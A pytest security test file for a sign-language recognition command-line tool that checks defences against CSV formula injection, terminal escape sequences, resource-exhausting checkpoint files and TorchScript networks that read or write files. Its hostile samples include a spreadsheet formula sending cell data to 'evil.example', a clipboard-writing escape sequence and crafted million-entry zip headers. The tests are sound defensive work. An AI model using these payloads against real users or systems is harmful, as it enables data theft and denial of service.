"""Attacks on the command line: files from others, and what they make it print and compute."""

import csv
import io
import json
import platform
import struct
import subprocess
import time
from pathlib import Path

import pytest
import torch
from rich.table import Table
from torch import Tensor

from asl_triton.cli import terminal
from asl_triton.cli.terminal import Console, echo, show_controls
from asl_triton.errors import AslTritonError, CheckpointError
from asl_triton.labels import read_labels
from asl_triton.presets import read_preset
from asl_triton.results import Prediction, Recognition, Segment, Timeline
from asl_triton.writers.tables import SINKS
from asl_triton.writers.text import format_csv
from asl_triton.writers.timelines import TIMELINES
from asl_triton_export.checkpoint import load_checkpoint
from asl_triton_export.formats.confinement import can_confine, run_confined
from tests.command_line import asl_triton
from tests.export.formats.test_custom_script import Means, save_script
from tests.networks import save_checkpoint, save_labels

Capture = pytest.CaptureFixture[str]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
FORMULAS = [FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1"]
CLEAR_SCREEN, TITLE, CLIPBOARD = "\x1b[2J", "\x1b]0;owned\x07", "\x9d52;c;b3duZWQ=\x9c"


def build_recognition(video: str, gloss: str) -> Recognition:
    return Recognition(video, "m", (Prediction(1, gloss, 0, 0.4, -1.5),), True, 9, 0.4, 1, 0.1, 0.2)


# Spreadsheets


def read_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_are_never_formulas(formula: str, tmp_path: Path) -> None:
    recognition = build_recognition(formula, formula)
    with SINKS["csv"](tmp_path / "results.csv") as sink:
        sink.write(recognition)
    with TIMELINES["csv"](tmp_path / "timeline.csv") as timelines:
        timelines.write(Timeline(formula, "m", (Segment(formula, 0, 0.0, 1.0, 0.9, 0.5),), 9, 1.0, 1, 0.1, 0.1))
    texts = [format_csv([recognition])]
    texts += [(tmp_path / name).read_bytes().decode() for name in ("results.csv", "timeline.csv")]
    for text in texts:
        (row,) = read_rows(text)
        assert {row["video"], row.get("gloss", row.get("word"))} == {f"'{formula}"}
        assert float(row.get("logit", -1.5)) == -1.5  # numbers stay numbers


@pytest.mark.parametrize("formula", FORMULAS)
def test_raw_csv_is_unchanged(formula: str, tmp_path: Path) -> None:
    with SINKS["csv"](tmp_path / "results.csv", raw=True) as sink:
        sink.write(build_recognition(formula, formula))
    (row,) = read_rows((tmp_path / "results.csv").read_bytes().decode())
    assert (row["video"], row["gloss"]) == (formula, formula)


def test_ordinary_names_are_unchanged(tmp_path: Path) -> None:
    with SINKS["csv"](tmp_path / "results.csv") as sink:
        sink.write(build_recognition("sub/a=b-c.mp4", "thank you"))
    (row,) = read_rows((tmp_path / "results.csv").read_bytes().decode())
    assert (row["video"], row["gloss"]) == ("sub/a=b-c.mp4", "thank you")


# Terminals


@pytest.mark.parametrize("sequence", [CLEAR_SCREEN, TITLE, CLIPBOARD, "\x08\x08", "\u202e", "\r"])
def test_printed_text_cannot_control_the_terminal(sequence: str, capsys: Capture) -> None:
    file = io.StringIO()
    console = Console(file=file, force_terminal=True, width=200)
    table = Table("gloss")
    table.add_row(f"book{sequence}")
    console.print(table)
    console.print(f"[bold]book{sequence}[/]", soft_wrap=True)
    echo(f"book{sequence}")
    printed = file.getvalue() + capsys.readouterr().out
    assert sequence not in printed and printed.count("book") == 3
    assert show_controls(sequence).isprintable()


def test_every_command_prints_through_the_safe_console() -> None:
    for path in Path(terminal.__file__).parent.glob("*.py"):
        code = path.read_text()
        assert path.name == "terminal.py" or "from rich.console import" not in code, path


def test_error_message_escapes_the_file_name(tmp_path: Path, capsys: Capture) -> None:
    done = asl_triton(capsys, "export", tmp_path / f"weights{CLEAR_SCREEN}.pt", "--labels", tmp_path / "labels")
    assert done.code == 1
    assert "\x1b" not in done.output and "weights\\x1b[2J.pt" in done.output.replace("\n", "")


@pytest.mark.parametrize(
    "arguments",
    [
        ("ui", "--max-minutes", "nan"),
        ("batch", "clips", "--min-confidence", "nan"),
        ("batch", "clips", "--wait", "NaN"),
        ("serve", "--timeout", "nan"),
        ("watch", "0", "--give-up", "nan"),
    ],
)
def test_nan_is_a_usage_error(arguments: tuple[str, ...], capsys: Capture) -> None:
    done = asl_triton(capsys, *arguments)
    assert done.code == 2


# Endless files, and files with too many tensors


def test_endless_device_is_rejected_quickly() -> None:
    began_s = time.monotonic()
    with pytest.raises(CheckpointError, match="cannot read /dev/zero: it is not a file"):
        load_checkpoint(Path("/dev/zero"))
    for read in (lambda: read_labels(Path("/dev/zero")), lambda: read_preset("/dev/zero")):
        with pytest.raises(AslTritonError, match="/dev/zero is larger than"):
            read()
    assert time.monotonic() - began_s < 2


def test_oversized_checkpoint_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "large.pt"
    with path.open("wb") as file:
        file.truncate(5 * 2**30)
    with pytest.raises(CheckpointError, match="too large for an I3D checkpoint"):
        load_checkpoint(path)


def test_safetensors_with_a_million_tensors_is_rejected_by_its_header(tmp_path: Path) -> None:
    tensor = '"t%07d":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    header = ("{" + ",".join(tensor % number for number in range(1_000_000)) + "}").encode()
    path = tmp_path / "many.safetensors"
    path.write_bytes(struct.pack("<Q", len(header)) + header)
    began_s = time.monotonic()
    with pytest.raises(CheckpointError, match="lists its tensors in 59,000,001 bytes, but I3D needs 60,000"):
        load_checkpoint(path)
    assert time.monotonic() - began_s < 1


def test_zip_with_a_million_members_is_rejected_by_its_directory(tmp_path: Path) -> None:
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 1_000_000
    zip64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 10**6, 10**6, len(directory), 0)
    locator = struct.pack("<IIQI", 0x07064B50, 0, len(directory), 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path = tmp_path / "many.pt"
    path.write_bytes(directory + zip64 + locator + end)
    began_s = time.monotonic()
    with pytest.raises(CheckpointError, match="lists its tensors in"):
        load_checkpoint(path)
    assert time.monotonic() - began_s < 1


def test_pickle_with_many_tensors_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "many.pt"
    storage = torch.zeros(1)
    torch.save({f"t{number}": storage[:] for number in range(100_000)}, path)
    began_s = time.monotonic()
    with pytest.raises(CheckpointError, match="lists its tensors in"):
        load_checkpoint(path)
    assert time.monotonic() - began_s < 2


def test_real_checkpoint_is_within_the_limits(tmp_path: Path) -> None:
    assert load_checkpoint(save_checkpoint(tmp_path / "small.pt")).num_classes == 7


# Networks that contain code


class FileWriter(Means):
    """Creates a file of any size with a PyTorch operator."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.path = str(path)

    def forward(self, frames: Tensor) -> tuple[Tensor, Tensor, Tensor]:
        opened = torch.from_file(self.path, True, 3, dtype=torch.uint8)
        logits, step_logits, features = self.answer(frames)
        return logits, step_logits, features + opened.float()


class FileReader(Means):
    """Reads another file into its features."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.path = str(path)

    def forward(self, frames: Tensor) -> tuple[Tensor, Tensor, Tensor]:
        stolen = torch.from_file(self.path, False, 3, dtype=torch.uint8)
        logits, step_logits, features = self.answer(frames)
        return logits, step_logits, features + stolen.float()


confined_only = pytest.mark.skipif(not can_confine(), reason="this kernel has no Landlock")


@confined_only
@pytest.mark.parametrize("network", [FileWriter, FileReader])
def test_network_that_accesses_files_is_rejected(
    network: type[FileWriter] | type[FileReader], tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    secret = tmp_path / "secret"
    if network is FileReader:
        secret.write_text("key")
    save_script(tmp_path / "net.pt", network(secret))
    save_labels(tmp_path / "labels.txt")
    done = asl_triton(capsys, "export", "--torchscript", "net.pt", "--labels", "labels.txt", "--preset", "wlasl")
    assert done.code == 1
    assert "fails" in done.output and "ermission denied" in done.output
    assert secret.exists() is (network is FileReader)
    assert not (tmp_path / "model_repository").exists()


def test_export_warns_about_torchscript_code(tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    save_script(tmp_path / "means.pt")
    save_labels(tmp_path / "labels.txt")
    done = asl_triton(capsys, "export", "--torchscript", "means.pt", "--labels", "labels.txt", "--preset", "wlasl")
    assert done.code == 0
    assert "means.pt contains code" in done.output.replace("\n", " ")
    assert "with all of the server's rights" in done.output.replace("\n", " ")
    assert list(tmp_path.glob("asl-triton-check-*")) == []


@confined_only
def test_confined_process_can_only_compute(tmp_path: Path) -> None:
    scratch, outside = tmp_path / "scratch", tmp_path / "outside"
    scratch.mkdir()
    outside.mkdir()
    secret = outside / "secret"
    secret.write_text("key")
    arguments = [str(scratch), str(secret), str(outside / "new")]
    done = run_confined("tests.security.intruder:attempt", arguments, scratch, [], 60)
    assert done.returncode == 0
    worked = json.loads((scratch / "attempts.json").read_text())
    allowed = {"write to scratch", "read Python's library", "start a thread"}
    blocked_by_seccomp = {"open a socket", "open a local socket", "start a program", "fork", "kill", "trace"}
    if platform.machine() != "x86_64":
        worked = {name: could for name, could in worked.items() if name not in blocked_by_seccomp}
    assert {name for name, could in worked.items() if could} == allowed
    assert secret.read_text() == "key" and list(outside.iterdir()) == [secret]
    assert run_confined("tests.security.intruder:use_torch", [str(scratch)], scratch, [], 60).returncode == 0
    assert (scratch / "sum").read_text().startswith("3.0")


def test_confined_process_times_out(tmp_path: Path) -> None:
    with pytest.raises(subprocess.TimeoutExpired):
        run_confined("tests.security.intruder:loop_forever", [], tmp_path, [], 1)
